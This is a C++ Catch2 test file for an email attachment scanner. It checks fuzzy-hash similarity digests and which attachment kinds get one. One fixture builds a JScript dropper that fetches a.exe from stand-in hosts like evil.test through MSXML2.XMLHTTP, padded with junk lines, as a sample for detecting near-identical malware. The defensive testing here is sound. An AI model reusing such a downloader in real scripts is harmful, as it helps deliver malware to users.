// Which files get a digest, and which of them are nearly the same.
#include <catch2/catch.hpp>

#include "core/encoding.hpp"
#include "scanner/extract/extract.hpp"
#include "scanner/file_likeness.hpp"
#include "scanner/limits.hpp"

using namespace remand::scanner;

namespace {

// A dropper as a campaign sends it: the same script with another address and other names in it.
std::string dropper(const std::string& host, const std::string& variable) {
    std::string script = "var " + variable + "=new ActiveXObject(\"MSXML2.XMLHTTP\");\n" + variable;
    script += ".open(\"GET\",\"http://" + host + "/a.exe\",false);" + variable + ".send();\n";
    for (int i = 0; i < 60; ++i) {
        const auto number = std::to_string(i);
        script += "var q" + number + "=\"" + std::to_string(i * 7919 % 104729) + "\";if(q" + number + ".length>" +
                  std::to_string(i % 7) + "){WScript.Sleep(" + number + ");}\n";
    }
    return script;
}
std::string backup_script() {
    std::string script = "Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\n";
    for (int i = 0; i < 60; ++i) {
        const auto number = std::to_string(i);
        script += "fso.CopyFile \"C:\\Daten\\Ordner" + number + "\\*.docx\", \"D:\\Sicherung\\" + number + "\\\"\r\n";
    }
    return script;
}

std::string digest_of(const std::string& name, const std::string& bytes) {
    prepare_extraction();
    const auto facts = extract_facts(
        "From: a@a.test\nMIME-Version: 1.0\nContent-Type: application/octet-stream; name=\"" + name +
            "\"\nContent-Disposition: attachment\nContent-Transfer-Encoding: base64\n\n" + remand::to_base64(bytes) + "\n",
        {});
    REQUIRE(facts.attachments.size() == 1);
    return facts.attachments[0].tlsh;
}

Attachment file(FileKind kind, bool with_marks) {
    Attachment out;
    out.kind = kind;
    out.has_script = out.has_password_form = out.has_auto_macro = with_marks;
    if (with_marks) out.smuggling = {"program"};
    return out;
}

} // namespace

TEST_CASE("The same script with another address is near, another script is not", "[file_likeness]") {
    const auto bad = digest_of("invoice.js", dropper("evil.test", "abcdef"));
    REQUIRE(bad.size() == 70);
    const auto again = digest_of("bill.js", dropper("other-host.test", "ghijk"));
    const auto other = digest_of("backup.vbs", backup_script());
    REQUIRE_FALSE(other.empty());
    CHECK(again != bad);
    CHECK(nearest_files({again, other}, {bad}) == std::vector<std::optional<std::size_t>>{0, std::nullopt});
}

TEST_CASE("Of several the nearest counts, of equally near ones the first", "[file_likeness]") {
    const auto near = likeness_of(dropper("other-host.test", "ghijk")), same = likeness_of(dropper("evil.test", "abcdef"));
    CHECK(nearest_files({same}, {near, same, same}).at(0) == 1U);
    CHECK(nearest_files({same}, {near}).at(0) == 0U);
    CHECK_FALSE(nearest_files({same}, {}).at(0));
    CHECK(nearest_files({}, {same}).empty());
}

TEST_CASE("What is no digest is near to nothing", "[file_likeness]") {
    const auto digest = likeness_of(backup_script());
    for (const auto& wrong : {std::string(), digest.substr(1), digest + "0", std::string(70, 'x'), std::string(70, '\0')}) {
        CHECK_FALSE(nearest_files({wrong}, {wrong, digest}).at(0));
        CHECK_FALSE(nearest_files({digest}, {wrong}).at(0));
    }
}

TEST_CASE("Documents and pages that start nothing get no digest: two invoices of one program are alike", "[file_likeness]") {
    CHECK(digest_of("invoice.pdf", "%PDF-1.4\n" + backup_script()).empty());
    CHECK(digest_of("page.html", "<html><body><p>" + backup_script() + "</body></html>").empty());
    CHECK(digest_of("notes.txt", backup_script()).empty());
    for (const auto kind : {FileKind::pdf, FileKind::zip, FileKind::iso, FileKind::disk_image, FileKind::image, FileKind::text,
                            FileKind::url_shortcut, FileKind::unknown, FileKind::encrypted})
        CHECK_FALSE(is_likened(file(kind, true)));
    for (const auto kind : {FileKind::html, FileKind::svg, FileKind::onenote, FileKind::ole, FileKind::ooxml, FileKind::rtf}) {
        CHECK(is_likened(file(kind, true)));
        CHECK_FALSE(is_likened(file(kind, false)));
    }
    CHECK(is_likened(file(FileKind::executable, false)));
}

TEST_CASE("A file that is too small or too large gets no digest", "[file_likeness]") {
    const auto script = backup_script();
    CHECK_FALSE(digest_of("a.vbs", script.substr(0, smallest_likened)).empty());
    CHECK(digest_of("a.vbs", script.substr(0, smallest_likened - 1)).empty());
    CHECK(likeness_of(std::string(5'000, 'a')).empty()); // and one that says the same all the time
    auto program = "MZ" + std::string(200, '\0');
    while (program.size() < limits::likened_bytes) program += script;
    CHECK_FALSE(digest_of("a.exe", program.substr(0, limits::likened_bytes)).empty());
    CHECK(digest_of("a.exe", program.substr(0, limits::likened_bytes + 1)).empty());
}
